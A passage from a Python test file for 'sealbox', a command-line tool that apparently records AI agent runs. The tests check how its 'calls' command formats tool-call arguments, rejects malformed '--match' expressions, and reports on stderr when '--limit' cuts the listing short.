    rows = [r for r in csv.DictReader(io.StringIO(proc.stdout)) if r["kind"] == "tool.call"]
    canonical = json.dumps({"query": query}, separators=(",", ":"))  # as calls --csv writes arguments
    full = f"db/write_query call {rows[0]['detail'].split()[2]} args=" + canonical
    assert [r["detail"] for r in rows] == [full]
    events = ok_json("runs", "show", run.run_id, "-s", str(tmp_path / "s"), "--json")["events"]
    assert [e["payload"]["arguments"] for e in events if e["kind"] == "tool.call"] == [{"query": query}]
    table = sealbox("runs", "show", run.run_id, "-s", str(tmp_path / "s"))
    assert query not in table.stdout


def test_two_match_options_are_two_expressions_never_one_pair(recorded):
    """`--match arguments.query --match 'tool~read'` (the first missing its `~REGEX`) must be refused, not
    read as the Python API's (field, regex) pair: arguments.query searched for the regex 'tool~read'."""
    proc = sealbox("calls", "-s", str(recorded.path), "--match", "arguments.query", "--match", "tool~read", "--json")
    assert_one_error_line(proc, "error: match: 'arguments.query' is not FIELD~REGEX")


def test_calls_says_when_its_limit_cut_the_listing_as_runs_list_does(recorded):
    """`calls --limit N` listed the newest N calls and said nothing when more matched, where `runs list`
    says so on stderr: an investigator took them for all the calls there are."""
    s = str(recorded.path)
    cut = sealbox("calls", "-s", s, "--tool", "read_*", "--limit", "2")
    assert cut.returncode == 0 and cut.stderr == "the newest 2 calls shown; more match (--limit N to see more)\n"
    assert "Tool calls (2)" in cut.stdout
    for fmt in ("--json", "--csv"):  # stdout the rows alone; the note on stderr too (tests/cli/test_limit_note_with_json_and_csv.py)
        out = sealbox("calls", "-s", s, "--tool", "read_*", "--limit", "2", fmt)
        assert out.returncode == 0 and out.stderr == "the newest 2 calls shown; more match (--limit N to see more)\n"
    assert ids(ok_json("calls", "-s", s, "--tool", "read_*", "--limit", "2", "--json")) == ["b2", "b4"]
    whole = sealbox("calls", "-s", s, "--tool", "read_*", "--limit", "5")
    assert whole.returncode == 0 and whole.stderr == "" and "Tool calls (5)" in whole.stdout
